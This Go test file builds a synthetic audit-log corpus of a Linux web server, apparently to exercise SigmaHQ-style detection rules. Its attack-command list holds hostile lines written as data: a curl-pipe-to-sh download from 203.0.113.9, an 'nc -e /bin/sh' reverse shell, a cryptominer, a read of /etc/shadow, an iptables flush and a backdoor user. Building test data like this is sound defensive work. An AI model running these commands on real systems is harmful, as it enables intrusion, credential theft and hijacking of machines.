package detect

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/core/telemetry"
)

// The recorded event corpus (testdata/events.jsonl) is generated, reproducibly,
// by TestGenerateEventCorpus:
//
//	go test -run TestGenerateEventCorpus -gen-events ./plugins/siem/local/detect/
//
// It models the telemetry of a busy Linux web/app server: for every process
// start the audit records the kernel emits (SYSCALL execve, EXECVE, CWD, PATH
// x2, PROCTITLE) plus the derived process_creation event, file opens and
// writes (SYSCALL openat + CWD + PATH, file_event), logins and service
// records, and a handful of attack-like executions so that some rules fire.
var genEvents = flag.Bool("gen-events", false, "regenerate testdata/events.jsonl")

const eventsFile = "testdata/events.jsonl"

// readEvents loads a JSONL event corpus.
func readEvents(tb testing.TB, path string) []*telemetry.Event {
	tb.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		tb.Fatalf("read %s: %v", path, err)
	}
	var out []*telemetry.Event
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for line := 1; sc.Scan(); line++ {
		if len(bytes.TrimSpace(sc.Bytes())) == 0 {
			continue
		}
		ev := &telemetry.Event{}
		if err := ev.UnmarshalJSON(sc.Bytes()); err != nil {
			tb.Fatalf("%s:%d: %v", path, line, err)
		}
		out = append(out, ev)
	}
	if err := sc.Err(); err != nil {
		tb.Fatalf("read %s: %v", path, err)
	}
	return out
}

// command is one program start of the simulated host.
type command struct {
	argv   []string
	parent []string // parent argv
	user   string
	cwd    string
	weight int
}

func benignCommands() []command {
	return []command{
		{[]string{"/usr/bin/ls", "-la", "/var/log/nginx"}, []string{"/bin/bash"}, "deploy", "/home/deploy", 30},
		{[]string{"/usr/bin/ps", "aux"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 20},
		{[]string{"/usr/bin/grep", "-c", "error", "/var/log/nginx/error.log"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 25},
		{[]string{"/usr/bin/cat", "/proc/loadavg"}, []string{"/bin/sh", "-c", "/usr/local/bin/healthcheck.sh"}, "root", "/", 25},
		{[]string{"/usr/bin/awk", "{print $9}", "/var/log/nginx/access.log"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 10},
		{[]string{"/usr/bin/sort"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 10},
		{[]string{"/usr/bin/uniq", "-c"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 10},
		{[]string{"/usr/bin/head", "-n", "20"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 8},
		{[]string{"/usr/bin/date", "+%Y-%m-%dT%H:%M:%S"}, []string{"/bin/sh", "-c", "run-parts /etc/cron.hourly"}, "root", "/", 15},
		{[]string{"/usr/bin/sleep", "30"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 20},
		{[]string{"/usr/bin/python3", "/opt/app/manage.py", "clearsessions"}, []string{"/usr/sbin/cron", "-f"}, "app", "/opt/app", 6},
		{[]string{"/usr/bin/python3", "-m", "gunicorn", "app.wsgi:application", "--workers", "4", "--bind", "127.0.0.1:8000"}, []string{"/usr/lib/systemd/systemd", "--system"}, "app", "/opt/app", 2},
		{[]string{"/usr/bin/node", "/srv/api/server.js"}, []string{"/usr/lib/systemd/systemd", "--system"}, "node", "/srv/api", 2},
		{[]string{"/usr/bin/java", "-Xmx2g", "-jar", "/opt/search/search.jar"}, []string{"/usr/lib/systemd/systemd", "--system"}, "search", "/opt/search", 1},
		{[]string{"/usr/sbin/nginx", "-s", "reload"}, []string{"/usr/bin/systemctl", "reload", "nginx"}, "root", "/", 2},
		{[]string{"/usr/bin/systemctl", "is-active", "--quiet", "nginx"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 12},
		{[]string{"/usr/bin/git", "pull", "--ff-only", "origin", "main"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/srv/api", 3},
		{[]string{"/usr/bin/git", "rev-parse", "HEAD"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/srv/api", 3},
		{[]string{"/usr/bin/npm", "ci", "--omit=dev"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/srv/api", 2},
		{[]string{"/usr/bin/tar", "czf", "/backup/www-20260823.tgz", "/var/www"}, []string{"/bin/sh", "-c", "/opt/scripts/backup.sh"}, "root", "/", 1},
		{[]string{"/usr/bin/gzip", "-9", "/var/log/app/app.log.1"}, []string{"/usr/sbin/logrotate", "/etc/logrotate.conf"}, "root", "/", 3},
		{[]string{"/usr/sbin/logrotate", "/etc/logrotate.conf"}, []string{"/bin/sh", "-c", "test -x /usr/sbin/logrotate || exit 0"}, "root", "/", 1},
		{[]string{"/usr/bin/find", "/var/cache/app", "-type", "f", "-mtime", "+7", "-delete"}, []string{"/bin/sh", "-c", "/opt/scripts/cleanup.sh"}, "root", "/", 2},
		{[]string{"/usr/bin/rm", "-f", "/tmp/tmp.hW3kq9Zb2L"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 5},
		{[]string{"/usr/bin/mkdir", "-p", "/var/cache/app/thumbs"}, []string{"/usr/bin/python3", "/opt/app/manage.py", "collectstatic"}, "app", "/opt/app", 3},
		{[]string{"/usr/bin/cp", "-a", "/srv/api/dist/.", "/var/www/html/"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/srv/api", 2},
		{[]string{"/usr/bin/mv", "/var/www/html.new", "/var/www/html"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/var/www", 1},
		{[]string{"/usr/bin/chmod", "644", "/var/www/html/index.html"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/var/www", 2},
		{[]string{"/usr/bin/chown", "-R", "www-data:www-data", "/var/www/html"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "root", "/var/www", 1},
		{[]string{"/usr/bin/curl", "-fsS", "-o", "/dev/null", "http://127.0.0.1:8000/healthz"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 12},
		{[]string{"/usr/bin/ssh", "-o", "BatchMode=yes", "backup@10.0.3.17", "true"}, []string{"/bin/sh", "-c", "/opt/scripts/backup.sh"}, "root", "/root", 1},
		{[]string{"/usr/bin/rsync", "-az", "--delete", "/var/www/", "backup@10.0.3.17:/srv/backup/www/"}, []string{"/bin/sh", "-c", "/opt/scripts/backup.sh"}, "root", "/root", 1},
		{[]string{"/usr/bin/docker", "ps", "--format", "{{.Names}}"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 4},
		{[]string{"/usr/bin/df", "-h", "/"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 6},
		{[]string{"/usr/bin/free", "-m"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 6},
		{[]string{"/usr/bin/wc", "-l", "/var/log/nginx/access.log"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 4},
		{[]string{"/usr/bin/sed", "-n", "1,200p", "/var/log/app/app.log"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "www-data", "/var/www", 3},
		{[]string{"/usr/bin/apt-get", "-qq", "update"}, []string{"/bin/sh", "-c", "/usr/lib/apt/apt.systemd.daily update"}, "root", "/", 1},
		{[]string{"/usr/bin/dpkg", "--print-architecture"}, []string{"/usr/bin/apt-get", "-qq", "update"}, "root", "/", 1},
		{[]string{"/usr/lib/openssh/sftp-server"}, []string{"sshd: deploy@notty"}, "deploy", "/home/deploy", 1},
		{[]string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, []string{"/usr/sbin/cron", "-f"}, "root", "/", 10},
		{[]string{"/bin/sh", "-c", "run-parts --report /etc/cron.hourly"}, []string{"/usr/sbin/cron", "-f"}, "root", "/", 2},
		{[]string{"/usr/bin/vim", "/etc/nginx/sites-available/default"}, []string{"-bash"}, "alice", "/home/alice", 1},
		{[]string{"/usr/bin/less", "/var/log/syslog"}, []string{"-bash"}, "alice", "/home/alice", 1},
		{[]string{"/usr/bin/htop"}, []string{"-bash"}, "alice", "/home/alice", 1},
		{[]string{"/usr/bin/journalctl", "-u", "nginx", "--since", "1 hour ago"}, []string{"-bash"}, "alice", "/home/alice", 1},
		{[]string{"/usr/bin/openssl", "s_client", "-connect", "api.example.com:443", "-servername", "api.example.com"}, []string{"-bash"}, "alice", "/home/alice", 1},
		{[]string{"/usr/bin/psql", "-h", "10.0.2.5", "-U", "app", "-c", "SELECT count(*) FROM orders"}, []string{"/bin/bash", "/opt/scripts/report.sh"}, "app", "/opt/app", 2},
		{[]string{"/usr/bin/uname", "-r"}, []string{"/bin/bash", "/usr/local/bin/healthcheck.sh"}, "root", "/", 2},
		{[]string{"/usr/bin/id", "-u"}, []string{"/bin/bash", "/opt/scripts/deploy.sh"}, "deploy", "/srv/api", 2},
	}
}

// attackCommands are attack-like executions that SigmaHQ rules detect.
func attackCommands() []command {
	return []command{
		{[]string{"/usr/bin/base64", "-d", "/tmp/.x"}, []string{"/bin/bash", "-i"}, "www-data", "/tmp", 1},
		{[]string{"/usr/bin/crontab", "-l"}, []string{"/bin/bash", "-i"}, "www-data", "/tmp", 1},
		{[]string{"/usr/bin/cat", "/etc/shadow"}, []string{"/bin/bash", "-i"}, "root", "/root", 1},
		{[]string{"/usr/bin/chmod", "+x", "/tmp/kworker"}, []string{"/bin/sh", "-c", "curl -s http://203.0.113.9/k | sh"}, "www-data", "/tmp", 1},
		{[]string{"/tmp/kworker", "-o", "pool.minexmr.com:4444", "--donate-level=0"}, []string{"/bin/sh", "-c", "/tmp/kworker"}, "www-data", "/tmp", 1},
		{[]string{"/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"}, []string{"/bin/sh", "-c", "nc -e /bin/sh 203.0.113.9 4444"}, "www-data", "/var/www", 1},
		{[]string{"/usr/bin/whoami"}, []string{"/bin/sh", "-c", "whoami"}, "www-data", "/var/www/html", 1},
		{[]string{"/usr/sbin/iptables", "-F"}, []string{"/bin/bash", "-i"}, "root", "/root", 1},
		{[]string{"/usr/sbin/useradd", "-m", "-s", "/bin/bash", "svc-backup"}, []string{"/bin/bash", "-i"}, "root", "/root", 1},
		{[]string{"/usr/bin/find", "/", "-perm", "-4000", "-type", "f"}, []string{"/bin/bash", "-i"}, "www-data", "/tmp", 1},
	}
}

func TestGenerateEventCorpus(t *testing.T) {
	if !*genEvents {
		t.Skip("run with -gen-events to regenerate " + eventsFile)
	}
	evs := generateCorpus(4000)
	var buf bytes.Buffer
	for _, ev := range evs {
		b, err := ev.MarshalJSONL()
		if err != nil {
			t.Fatal(err)
		}
		buf.Write(b)
		buf.WriteByte('\n')
	}
	if err := os.WriteFile(eventsFile, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("wrote %d events to %s", len(evs), eventsFile)
}

// generateCorpus simulates about n events of a busy host, deterministically.
func generateCorpus(n int) []*telemetry.Event {
	g := &gen{
		rnd:  rand.New(rand.NewPCG(20260823, 1)),
		t:    time.Date(2026, 8, 23, 9, 0, 0, 0, time.UTC),
		seq:  4_100_000,
		pid:  210_000,
		host: "web-01",
	}
	benign := benignCommands()
	attack := attackCommands()
	total := 0
	for _, c := range benign {
		total += c.weight
	}
	for len(g.out) < n {
		switch r := g.rnd.IntN(100); {
		case r < 55:
			w := g.rnd.IntN(total)
			for _, c := range benign {
				if w < c.weight {
					g.exec(c)
					break
				}
				w -= c.weight
			}
		case r < 85:
			g.fileAccess()
		case r < 93:
			g.fileWrite()
		case r < 99:
			g.login()
		default:
			if g.rnd.IntN(6) == 0 {
				g.exec(attack[g.rnd.IntN(len(attack))])
			} else {
				g.service()
			}
		}
	}
	return g.out[:n]
}

type gen struct {
	rnd  *rand.Rand
	t    time.Time
	seq  uint64
	pid  int
	host string
	out  []*telemetry.Event
}

var uids = map[string]string{"root": "0", "www-data": "33", "deploy": "1001", "alice": "1002", "app": "998", "node": "997", "search": "996"}

func (g *gen) next(src telemetry.Logsource, fields map[string]any) {
	g.t = g.t.Add(time.Duration(200+g.rnd.IntN(4000)) * time.Microsecond)
	ev := &telemetry.Event{Time: g.t, Host: g.host, Source: src, Fields: fields}
	if src == telemetry.Auditd {
		ev.Sequence = g.seq
	}
	g.out = append(g.out, ev)
}

func (g *gen) syscall(name, nr string, exe, comm, user string, success bool, key string, items int) map[string]any {
	uid := uids[user]
	if uid == "" {
		uid = "1000"
	}
	auid := uid
	if user == "root" || user == "www-data" || user == "app" || user == "node" || user == "search" {
		auid = "4294967295"
	}
	exit := "0"
	succ := "yes"
	if !success {
		exit, succ = "-2", "no"
	}
	f := map[string]any{
		"type": "SYSCALL", "arch": "c000003e", "syscall": nr, "SYSCALL": name, "success": succ, "exit": exit,
		"a0": fmt.Sprintf("%x", 0x7ffc00000000+g.rnd.Int64N(1<<32)), "a1": fmt.Sprintf("%x", 0x55d000000000+g.rnd.Int64N(1<<32)),
		"a2": fmt.Sprintf("%x", g.rnd.IntN(1<<16)), "a3": "0", "items": strconv.Itoa(items),
		"ppid": strconv.Itoa(g.pid - 1 - g.rnd.IntN(50)), "pid": strconv.Itoa(g.pid),
		"auid": auid, "uid": uid, "gid": uid, "euid": uid, "suid": uid, "fsuid": uid, "egid": uid, "sgid": uid, "fsgid": uid,
		"tty": "(none)", "ses": "4294967295", "comm": comm, "exe": exe,
	}
	if key != "" {
		f["key"] = key
	}
	return f
}

func (g *gen) path(item int, name, nametype string) map[string]any {
	return map[string]any{
		"type": "PATH", "item": strconv.Itoa(item), "name": name, "inode": strconv.Itoa(100000 + g.rnd.IntN(9_000_000)),
		"dev": "fd:01", "mode": "0100755", "ouid": "0", "ogid": "0", "rdev": "00:00", "nametype": nametype,
		"cap_fp": "0", "cap_fi": "0", "cap_fe": "0", "cap_fver": "0",
	}
}

func base(p string) string { return p[strings.LastIndexByte(p, '/')+1:] }

// exec emits the audit records of one execve and the process_creation event.
func (g *gen) exec(c command) {
	g.seq++
	g.pid += 1 + g.rnd.IntN(7)
	exe := c.argv[0]
	g.next(telemetry.Auditd, g.syscall("execve", "59", exe, base(exe), c.user, true, "exec", 2))
	ex := map[string]any{"type": "EXECVE", "argc": strconv.Itoa(len(c.argv))}
	for i, a := range c.argv {
		if i == 0 {
			a = base(a) // argv[0] as typed: the program name
		}
		ex["a"+strconv.Itoa(i)] = a
	}
	g.next(telemetry.Auditd, ex)
	g.next(telemetry.Auditd, map[string]any{"type": "CWD", "cwd": c.cwd})
	g.next(telemetry.Auditd, g.path(0, exe, "NORMAL"))
	g.next(telemetry.Auditd, g.path(1, "/lib64/ld-linux-x86-64.so.2", "NORMAL"))
	cmdline := strings.Join(c.argv, " ")
	g.next(telemetry.Auditd, map[string]any{"type": "PROCTITLE", "proctitle": cmdline})
	parentImage := c.parent[0]
	if !strings.HasPrefix(parentImage, "/") {
		parentImage = "/usr/bin/bash"
		if strings.HasPrefix(c.parent[0], "sshd") {
			parentImage = "/usr/sbin/sshd"
		}
	}
	g.next(telemetry.ProcessCreation, map[string]any{
		"Image": exe, "CommandLine": cmdline, "CurrentDirectory": c.cwd, "User": c.user,
		"LogonId": uids[c.user], "ProcessId": strconv.Itoa(g.pid), "ParentProcessId": strconv.Itoa(g.pid - 3),
		"ParentImage": parentImage, "ParentCommandLine": strings.Join(c.parent, " "),
	})
}

var readPaths = []string{
	"/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6", "/etc/nsswitch.conf", "/etc/passwd", "/etc/group",
	"/etc/localtime", "/etc/hosts", "/etc/resolv.conf", "/proc/meminfo", "/proc/self/status", "/proc/loadavg",
	"/usr/lib/locale/locale-archive", "/var/log/nginx/access.log", "/var/www/html/index.html", "/var/www/html/static/app.js",
	"/opt/app/app/settings.py", "/opt/app/venv/lib/python3.12/site-packages/django/__init__.py", "/srv/api/node_modules/express/index.js",
	"/etc/ssl/certs/ca-certificates.crt", "/home/deploy/.ssh/known_hosts", "/sys/fs/cgroup/memory.max", "/etc/ld.so.preload",
}

var readers = []struct{ exe, user string }{
	{"/usr/sbin/nginx", "www-data"}, {"/usr/bin/python3.12", "app"}, {"/usr/bin/node", "node"}, {"/usr/bin/bash", "root"},
	{"/usr/lib/systemd/systemd-journald", "root"}, {"/usr/sbin/sshd", "root"}, {"/usr/bin/java", "search"},
}

// fileAccess emits an openat with its CWD and PATH records.
func (g *gen) fileAccess() {
	g.seq++
	r := readers[g.rnd.IntN(len(readers))]
	p := readPaths[g.rnd.IntN(len(readPaths))]
	ok := g.rnd.IntN(12) != 0
	g.next(telemetry.Auditd, g.syscall("openat", "257", r.exe, base(r.exe), r.user, ok, "", 1))
	g.next(telemetry.Auditd, map[string]any{"type": "CWD", "cwd": "/"})
	g.next(telemetry.Auditd, g.path(0, p, "NORMAL"))
}

var writePaths = []string{
	"/var/log/app/app.log", "/var/cache/app/thumbs/%d.webp", "/tmp/tmp.%d", "/var/lib/php/sessions/sess_%d",
	"/opt/app/media/uploads/%d.jpg", "/var/www/html/static/app.%d.js", "/home/deploy/.cache/pip/http/%d",
	"/var/spool/postfix/maildrop/%d", "/etc/nginx/sites-available/default",
}

// fileWrite emits a creating openat (auditd) and the file_event.
func (g *gen) fileWrite() {
	g.seq++
	r := readers[g.rnd.IntN(len(readers))]
	p := writePaths[g.rnd.IntN(len(writePaths))]
	if strings.Contains(p, "%d") {
		p = fmt.Sprintf(p, g.rnd.IntN(1_000_000))
	}
	g.next(telemetry.Auditd, g.syscall("openat", "257", r.exe, base(r.exe), r.user, true, "", 2))
	g.next(telemetry.Auditd, map[string]any{"type": "CWD", "cwd": "/"})
	g.next(telemetry.Auditd, g.path(0, p[:strings.LastIndexByte(p, '/')+1], "PARENT"))
	g.next(telemetry.Auditd, g.path(1, p, "CREATE"))
	g.next(telemetry.FileEvent, map[string]any{"TargetFilename": p, "Image": r.exe, "User": r.user, "ProcessId": strconv.Itoa(g.pid)})
}

// login emits the PAM records of an SSH login.
func (g *gen) login() {
	g.seq++
	user := []string{"deploy", "alice", "backup"}[g.rnd.IntN(3)]
	addr := fmt.Sprintf("10.0.%d.%d", g.rnd.IntN(4), 2+g.rnd.IntN(250))
	for _, typ := range []string{"USER_AUTH", "USER_ACCT", "CRED_ACQ", "USER_START"} {
		g.next(telemetry.Auditd, map[string]any{
			"type": typ, "pid": strconv.Itoa(g.pid), "uid": "0", "auid": uids[user], "ses": strconv.Itoa(1000 + g.rnd.IntN(500)),
			"op": "PAM:" + strings.ToLower(strings.TrimPrefix(typ, "USER_")), "acct": user, "exe": "/usr/sbin/sshd",
			"hostname": addr, "addr": addr, "terminal": "ssh", "res": "success",
		})
	}
}

// service emits a SERVICE_START/STOP record.
func (g *gen) service() {
	g.seq++
	typ := []string{"SERVICE_START", "SERVICE_STOP"}[g.rnd.IntN(2)]
	unit := []string{"logrotate", "apt-daily", "man-db", "fstrim", "systemd-tmpfiles-clean", "certbot"}[g.rnd.IntN(6)]
	g.next(telemetry.Auditd, map[string]any{
		"type": typ, "pid": "1", "uid": "0", "auid": "4294967295", "ses": "4294967295",
		"unit": unit, "comm": "systemd", "exe": "/usr/lib/systemd/systemd", "res": "success",
	})
}
